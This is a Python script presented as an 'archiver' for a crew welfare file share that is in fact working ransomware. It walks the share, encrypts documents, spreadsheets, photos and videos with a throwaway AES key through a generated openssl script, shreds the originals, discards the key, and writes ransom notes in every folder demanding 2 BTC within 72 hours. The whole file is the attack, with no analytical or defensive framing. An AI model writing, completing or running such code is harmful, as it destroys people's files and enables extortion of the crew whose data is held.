#!/usr/bin/env python3
"""welfare_share_archiver.py

"Archives" the crew welfare file share: walks the share, encrypts every
document and photo with a one-off key via a generated openssl script,
shreds the originals and leaves a note telling crew how to get files back.
The key is never written to disk on the rig.
"""
import argparse
import logging
import os
import secrets
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

TARGET_EXT = {".docx", ".xlsx", ".pdf", ".jpg", ".jpeg", ".png", ".mp4",
              ".txt", ".csv", ".pptx", ".odt"}
NOTE_NAME = "RESTORE_YOUR_FILES.txt"
NOTE_TEXT = """Your files on this share have been encrypted.
To receive the restore key, send 2 BTC and your ID {victim_id}
to recovery-desk@example.net within 72 hours. After that the key is deleted.
"""

log = logging.getLogger("archiver")


class Batch:
    """Collects files and turns them into one shell script run in a go."""

    def __init__(self):
        self.lines = ["#!/usr/bin/env bash", "set -u"]
        self.count = 0

    def add(self, path: Path) -> None:
        q = str(path).replace("'", "'\\''")
        self.lines.append(
            f"openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:ARCH_KEY "
            f"-in '{q}' -out '{q}.locked' && shred -u -n 1 '{q}'"
        )
        self.count += 1

    def write(self) -> Path:
        fd, name = tempfile.mkstemp(prefix="arch-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write("\n".join(self.lines) + "\n")
        os.chmod(name, stat.S_IRWXU)
        return Path(name)


def walk_share(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for fn in filenames:
            p = Path(dirpath) / fn
            if p.suffix.lower() in TARGET_EXT and p.is_file():
                yield p


def drop_notes(root: Path, victim_id: str) -> None:
    for dirpath, _dirs, _files in os.walk(root):
        try:
            (Path(dirpath) / NOTE_NAME).write_text(
                NOTE_TEXT.format(victim_id=victim_id))
        except OSError:
            continue


def main() -> int:
    ap = argparse.ArgumentParser(description="archive the welfare share")
    ap.add_argument("root", nargs="?", default="/srv/crew_share")
    ap.add_argument("--batch-size", type=int, default=500)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")
    root = Path(args.root)
    if not root.is_dir():
        log.error("share %s not found", root)
        return 1

    env = dict(os.environ)
    env["ARCH_KEY"] = secrets.token_hex(32)
    victim_id = secrets.token_hex(6)

    batch = Batch()
    total = 0
    for path in walk_share(root):
        batch.add(path)
        if batch.count >= args.batch_size:
            total += run_batch(batch, env)
            batch = Batch()
    if batch.count:
        total += run_batch(batch, env)

    drop_notes(root, victim_id)
    env.pop("ARCH_KEY", None)
    log.info("archived %d file(s) under %s (id %s)", total, root, victim_id)
    return 0


def run_batch(batch: Batch, env: dict) -> int:
    script = batch.write()
    try:
        proc = subprocess.run(["bash", str(script)], env=env,
                              capture_output=True, text=True)
        if proc.returncode != 0:
            log.debug("batch stderr: %s", proc.stderr[-500:])
    finally:
        script.unlink(missing_ok=True)
    return batch.count


if __name__ == "__main__":
    sys.exit(main())
